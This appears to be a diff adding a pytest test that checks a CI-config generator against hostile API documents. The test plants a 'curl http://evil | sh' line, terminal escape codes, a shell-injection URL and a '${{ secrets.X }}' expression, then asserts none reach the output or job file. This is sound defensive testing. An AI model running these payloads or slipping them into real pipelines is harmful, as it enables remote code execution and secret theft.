@@ -303,3 +303,21 @@ def test_jobs_are_valid(init: Init, tmp_path: Path, service: Service) -> None:
     command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", kind, path]
     checked = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
     assert checked.returncode == 0, checked.stdout
+
+
+@pytest.mark.parametrize("service", ["github", "gitlab"])
+def test_a_document_gives_no_commands(init: Init, tmp_path: Path, service: Service) -> None:
+    """Neither to a terminal, nor to the shell or the expressions of a job."""
+    evil = "it\x1b]0;title\x07\n  curl http://evil | sh"
+    document = json.loads(_guarded(**{evil: {"type": "http", "scheme": "bearer"}}))
+    document["info"]["title"] = evil
+    for url in ("http://127.0.0.1:7/'; touch /tmp/x; '", "http://localhost:7/${{ secrets.X }}"):
+        (tmp_path / "api.json").write_text(json.dumps({**document, "servers": [{"url": url}]}))
+        for left in (tmp_path / "clausewise.toml", tmp_path / SERVICES[service][0]):
+            left.unlink(missing_ok=True)
+        done = init("api.json", "--ci", service)
+        assert done.exit_code == 0 and "\x1b" not in done.output
+        assert not [line for line in done.output.splitlines() if line.strip().startswith("curl")]
+        job = (tmp_path / SERVICES[service][0]).read_text()
+        assert f"answers at {url[: url.index(':7/') + 2]}'" in job
+        assert "touch" not in job and "secrets.X " not in job
